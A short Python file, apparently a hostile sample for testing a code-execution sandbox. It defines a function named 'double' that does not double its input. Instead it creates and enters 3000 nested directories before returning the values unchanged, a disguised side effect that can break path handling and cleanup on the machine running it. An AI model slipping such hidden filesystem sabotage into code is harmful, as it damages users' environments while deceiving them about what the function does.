import os


def double(values):
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
    return values
